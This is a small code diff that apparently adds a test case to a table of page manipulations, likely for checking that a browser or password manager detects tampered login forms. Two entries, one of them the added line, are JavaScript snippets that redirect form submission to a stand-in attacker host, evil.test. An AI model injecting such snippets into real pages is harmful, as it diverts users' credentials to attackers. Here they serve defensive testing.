@@ -60,6 +60,8 @@ AFTER = {
     "field removed": f"void {USERNAME}.remove()",
     "field hidden": f"void ({USERNAME}.style.opacity = 0)",
     "form sends elsewhere now": "void document.forms[0].setAttribute('action', 'https://evil.test/')",
+    "a button of the form sends elsewhere now": "void document.forms[0].insertAdjacentHTML("
+    "'beforeend', '<button formaction=https://evil.test/ hidden>')",
     "focus taken away": f"void {USERNAME}.blur()",
 }
 
